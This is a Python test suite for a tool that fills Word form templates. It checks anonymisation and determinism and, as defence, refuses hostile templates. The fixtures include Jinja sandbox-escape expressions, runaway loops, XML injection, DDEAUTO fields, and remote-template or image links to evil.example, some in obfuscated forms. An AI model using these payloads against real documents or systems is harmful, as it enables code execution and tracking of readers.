"""Word files: what goes in comes out as text, nobody's traces are left, a template reaches nothing of the program."""

import ast
from io import BytesIO
from zipfile import ZipFile

import docx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from jiefen.base.text import render
from jiefen.files.limits import Limits
from jiefen.gate.carriers.reader import texts
from jiefen.papers.form import Form
from jiefen.papers.forms import FORMS
from jiefen.papers.word.acting import word_acts
from jiefen.papers.word.anonymous import EPOCH, anonymous
from jiefen.papers.word.fill import UnusableTemplate, filled
from jiefen.papers.word.filling import one_filled
from jiefen.papers.word.layout import Line, paper
from jiefen.publishing.sheet import CODE as SHEET
from scripts.paper_templates import FOLDER, TEMPLATES

OFFICE = "云岫县住房和城乡建设局"
BRACKETED = paper("题目", Line("［{{ value }}］"))
every_form = pytest.mark.parametrize("form", FORMS.values(), ids=lambda form: form.code)


def template(form: Form) -> bytes:
    return (FOLDER / f"{form.code}.docx").read_bytes()


def words(raw: bytes) -> str:
    """All text of a Word file, as python-docx reads it."""
    document = docx.Document(BytesIO(raw))
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join([*(paragraph.text for paragraph in document.paragraphs), *cells])


def leaves(values: object) -> list[str]:
    if isinstance(values, dict):
        return [leaf for value in values.values() for leaf in leaves(value)]
    return [values] if isinstance(values, str) else []


def test_the_templates_are_what_the_script_makes() -> None:
    assert {path.stem for path in FOLDER.glob("*.docx")} == set(TEMPLATES) >= {*FORMS, SHEET}
    for code, make in TEMPLATES.items():
        assert (FOLDER / f"{code}.docx").read_bytes() == make()
    assert make() == make(), "made twice in one process"


@every_form
def test_a_blank_form_holds_nothing_of_the_example_and_says_whose_it_is(form: Form) -> None:
    blank = words(filled(template(form), form.values(OFFICE, example=False)))
    assert form.title in blank
    assert OFFICE in blank
    assert "样例" not in blank
    assert "{" not in blank
    assert not [leaf for leaf in leaves(form.example) if len(leaf) > 2 and leaf in blank]


@every_form
def test_the_example_says_that_it_is_one_and_shows_what_is_asked(form: Form) -> None:
    example = words(filled(template(form), form.values(OFFICE, example=True)))
    assert example.startswith("样例")
    asked = {leaf for leaf in leaves(form.example) if "{" + "{ " not in leaf}
    shown = {leaf for leaf in asked if leaf in example}
    assert shown >= {form.example["day"], *(part["name"] for part in form.example.values() if isinstance(part, dict))}


@every_form
def test_the_same_bytes_every_time_without_traces(form: Form) -> None:
    values = form.values(OFFICE, example=True)
    raw = filled(template(form), values)
    assert raw == filled(template(form), values) == anonymous(raw)
    with ZipFile(BytesIO(raw)) as archive:
        assert {info.date_time for info in archive.infolist()} == {EPOCH}
        content = b"".join(archive.read(name) for name in archive.namelist())
    assert b"rsid" not in content
    assert b"python-docx" not in content
    properties = docx.Document(BytesIO(raw)).core_properties
    assert (properties.author, properties.last_modified_by, properties.created) == ("", "", None)


@every_form
def test_the_gate_reads_it(form: Form) -> None:
    raw = filled(template(form), form.values("一个单位的名称", example=True))
    assert any("一个单位的名称" in text.text for text in texts(f"forms/{form.code}.docx", raw))


@settings(max_examples=40, deadline=None)
@given(st.text(st.characters(exclude_categories=("Cs", "Cc", "Cn", "Co")), min_size=1, max_size=40))
def test_whatever_a_value_holds_it_is_text(value: str) -> None:
    raw = one_filled(BRACKETED, {"value": value, "sample": False})  # no process for each: they are many
    assert f"［{value}］" in words(raw)


@pytest.mark.parametrize(
    "value",
    [
        "</w:t></w:r></w:p><w:p><w:r><w:t>多一段</w:t></w:r></w:p>",
        "{{ sample }}",
        "{% if sample %}",
        "<w:br/>",
        "&lt;w:t&gt;",
        "]]>",
    ],
)
def test_markup_in_a_value_stays_text(value: str) -> None:
    plain = filled(paper("题目", Line("{{ value }}")), {"value": "一", "sample": False})
    raw = filled(paper("题目", Line("{{ value }}")), {"value": value, "sample": False})
    assert value in words(raw)
    assert len(docx.Document(BytesIO(raw)).paragraphs) == len(docx.Document(BytesIO(plain)).paragraphs)


@pytest.mark.parametrize(
    "expression",
    [
        "{{ ''.__class__.__mro__ }}",
        "{{ value.__init__.__globals__ }}",
        "{{ unknown }}",
        "{{ value",
        "{% for x in range(999999999) %}x{% endfor %}",
    ],
)
def test_a_template_that_asks_for_more_is_refused(expression: str) -> None:
    with pytest.raises(UnusableTemplate) as refused:
        filled(paper("题目", Line(expression)), {"value": "一", "sample": False})
    assert "模板" in render(refused.value.say)


@pytest.mark.parametrize("raw", [b"", b"PK", b"no zip", ZipFile.__doc__.encode() if ZipFile.__doc__ else b"x"])
def test_what_is_no_word_file_is_refused(raw: bytes) -> None:
    with pytest.raises(UnusableTemplate):
        filled(raw, {})


ENDLESS = "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}"
HUGE = "{% set ns = namespace(a='甲甲甲甲甲甲甲甲') %}{% for x in range(40) %}{% set ns.a = ns.a ~ ns.a %}{% endfor %}"


@pytest.mark.parametrize(
    ("expression", "limits"),
    [
        (ENDLESS, Limits(processor=1)),
        (ENDLESS, Limits(clock=2)),  # all that Windows has
        (HUGE, Limits(memory=1 << 29)),
        ("{{ '甲' * 2000000000 }}", Limits(memory=1 << 29)),
    ],
    ids=["processor", "clock", "memory", "one value"],
)
def test_a_template_without_end_is_stopped(expression: str, limits: Limits) -> None:
    with pytest.raises(UnusableTemplate) as refused:
        filled(paper("题目", Line(expression)), {"sample": False}, limits)
    assert "太久" in render(refused.value.say)


def test_only_a_process_of_its_own_fills_a_template() -> None:
    """What an office wrote never runs beside keys and records."""
    package = FOLDER.parent / "tools/jiefen"
    uses = {path.relative_to(package).as_posix() for path in package.rglob("*.py") if _fills(path.read_text("utf-8"))}
    assert uses == {"papers/word/filling.py"}


def _fills(source: str) -> bool:
    imports = (node for node in ast.walk(ast.parse(source)) if isinstance(node, ast.ImportFrom | ast.Import))
    names = (f"{getattr(node, 'module', '')}.{alias.name}" for node in imports for alias in node.names)
    return any("docxtpl" in name or name.startswith("jiefen.papers.word.filling") for name in names)


def changed(raw: bytes, changes: dict[str, tuple[bytes, bytes]], more: dict[str, bytes] | None = None) -> bytes:
    """A Word file with something put in place of another in some of its parts, and with more parts."""
    out = BytesIO()
    with ZipFile(BytesIO(raw)) as source, ZipFile(out, "w") as target:
        for name in source.namelist():
            content = source.read(name)
            if name in changes:
                assert changes[name][0] in content
                content = content.replace(*changes[name])
            target.writestr(name, content)
        for name, content in (more or {}).items():
            target.writestr(name, content)
    return out.getvalue()


def field(*pieces: str) -> tuple[bytes, bytes]:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return b"</w:p>", f"{runs}</w:p>".encode()


RELATED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def related(kind: str, target: str) -> tuple[bytes, bytes]:
    relation = f'<Relationship Id="rIdx" Type="{RELATED}{kind}" Target="{target}" TargetMode="External"/>'
    return b"</Relationships>", f"{relation}</Relationships>".encode()


RELATIONS = "word/_rels/document.xml.rels"


@pytest.mark.parametrize(
    "changes",
    [
        {"word/document.xml": field('DDEAUTO c:\\\\x "/k"')},
        {"word/document.xml": field("DD", "EAUTO x")},
        {"word/document.xml": field("INCLUDEPICTURE &quot;https://evil.example/x.png&quot;")},
        {"word/document.xml": field("HYPERLINK &quot;x&quot; MACROBUTTON x")},
        {"word/document.xml": (b"</w:p>", b'<w:fldSimple w:instr="LINK Excel.Sheet.8 x"/></w:p>')},
        {RELATIONS: related("attachedTemplate", "https://evil.example/x.dotm")},
        {RELATIONS: related("image", "https://evil.example/x.png")},
        {RELATIONS: related("hyperlink", "file://evil.example/x")},
        {
            "word/document.xml": (
                b"</w:p>",
                b'<w:pict><v:imagedata xmlns:v="v" src="//evil.example/x.png"/></w:pict></w:p>',
            )
        },
    ],
)
def test_a_template_that_acts_is_refused(changes: dict[str, tuple[bytes, bytes]]) -> None:
    """The blank form would run it, or tell somebody else that it was opened, on the reader's machine."""
    with pytest.raises(UnusableTemplate) as refused:
        filled(changed(BRACKETED, changes), {"value": "x", "sample": False})
    assert "INCLUDEPICTURE" in render(refused.value.say)


NAME = "方小满"
OF_USERS = {
    "word/people.xml": ("people", b'<w15:person w15:author="%s"/>'),
    "customXml/item1.xml": ("customXml", b"<who>%s</who>"),
    "docProps/thumbnail.jpeg": ("metadata/thumbnail", b"\xff\xd8\xff%s"),
    "package/services/1.psmdcp": ("metadata/core-properties", b"<cp:coreProperties><creator>%s</creator>"),
    "word/x.xml": ("extended-properties", b"<Company>%s</Company>"),
}


@pytest.mark.parametrize("part", OF_USERS)
def test_what_tells_of_users_is_dropped_under_any_name(part: str) -> None:
    """Programs that are not Word put properties elsewhere; a template may even print a party's name there."""
    kind, content = OF_USERS[part]
    relation = f'<Relationship Id="rIdx" Type="{RELATED}{kind}" Target="/{part}"/></Relationships>'
    override = f'<Override PartName="/{part}" ContentType="application/xml"/></Types>'
    told = changed(
        BRACKETED,
        {
            "_rels/.rels": (b"</Relationships>", relation.encode()),
            "[Content_Types].xml": (b"</Types>", override.encode()),
        },
        {part: content.replace(b"%s", NAME.encode())},
    )
    with ZipFile(BytesIO(anonymous(told))) as archive:
        assert part not in archive.namelist()
        assert not [one for one in archive.namelist() if part.encode() in archive.read(one)]
    assert docx.Document(BytesIO(anonymous(told))).paragraphs


def test_settings_and_remarks_tell_of_nobody() -> None:
    remark = f"<w:comment w:author='{NAME}' w:initials = \"{NAME}\"/>"
    variables = f'<w:docVars><w:docVar w:name="who" w:val="{NAME}"/></w:docVars>'
    told = changed(BRACKETED, {}, {"word/comments.xml": remark.encode(), "word/settings.xml": variables.encode()})
    with ZipFile(BytesIO(anonymous(told))) as archive:
        assert not [one for one in archive.namelist() if NAME.encode() in archive.read(one)]


OF_MORE = 'x=">" Id='
DDE, PICTURE = "<w:instrText>DDE x</w:instrText>", related("image", "https://evil.example/x.png")[1].decode()


@pytest.mark.parametrize(
    ("part", "content"),
    [
        ("word/glossary/document.xml", "<w:instrText><![CDATA[DDE x]]></w:instrText>"),
        ("word/glossary/document.xml", "<w:instrText>D<!-- -->DE x</w:instrText>"),
        ("word/glossary/document.xml", '<w:fldSimple w:dirty=">" w:instr="DDE x"/>'),
        ("word/glossary/document.xml", '<!DOCTYPE w [<!ENTITY a "DDE x">]><w:instrText>&a;</w:instrText>'),
        ("word/glossary/document.xml", "<w:instrText>DDE x"),
        ("word/body.dat", DDE),
        ("word/body.dat", f"\n{DDE}"),
        ("word/body.dat", b"\xef\xbb\xbf" + DDE.encode()),
        ("word/body.dat", DDE.encode("utf-16")),
        ("word/_rels/body.dat.RELS", f"<Relationships>{PICTURE}"),
        ("word/_rels/x.xml.rels", f"<Relationships>{PICTURE.replace('Ext', 'Ex&#116;')}"),
        ("word/_rels/x.xml.rels", f"<Relationships>{PICTURE.replace('Id=', OF_MORE)}"),
        ("word/_rels/x.xml.rels", f"<a-b:Relationships>{PICTURE.replace('Relationship', 'a-b:Relationship')}"),
        ("[content_types].xml", '<Types><Default ContentType="x.macr&#111;Enabled"/></Types>'),
    ],
)
def test_what_acts_is_seen_in_every_disguise(part: str, content: str | bytes) -> None:
    raw = content if isinstance(content, bytes) else content.encode()
    assert word_acts(changed(BRACKETED, {}, {part: raw}))


def test_a_template_may_point_at_pages_and_number_them() -> None:
    target = "https://www.gov.cn/link/dde"
    fields = field("PAGE", f" HYPERLINK &quot;{target}&quot;")
    assert filled(
        changed(BRACKETED, {"word/document.xml": fields, RELATIONS: related("hyperlink", target)}),
        {"value": "x", "sample": False},
    )
    assert word_acts(changed(BRACKETED, {}, {"word/vbaProject.bin": b"x"}))
    assert not word_acts(BRACKETED)
